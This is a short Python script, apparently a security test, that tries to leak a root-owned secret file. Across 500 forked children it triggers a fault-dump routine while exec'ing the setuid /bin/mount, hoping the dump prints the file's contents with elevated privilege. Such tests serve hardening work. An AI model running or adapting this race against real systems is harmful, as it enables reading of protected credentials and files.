"""A process that names root's secret file as a source dumps and becomes a set-user-ID program while it is looked at."""
import ctypes
import os
import time

TRIES = 500
dump = ctypes.PyDLL(None).pyfault_dump
null = os.open(os.devnull, os.O_RDWR)
scope = {}
exec(compile("\ndef f(call):\n    call()\n", os.environ["HOSTILE_SECRET"], "exec"), scope)
function = scope["f"]
for number in range(TRIES):
    if os.fork() == 0:
        os.dup2(null, 1)
        time.sleep(0.01)  # lets the watchdog become idle
        function(dump)
        os.execv("/bin/mount", ["mount"])
    os.wait()
open(os.environ["HOSTILE_TRIES"], "w").write(str(TRIES))
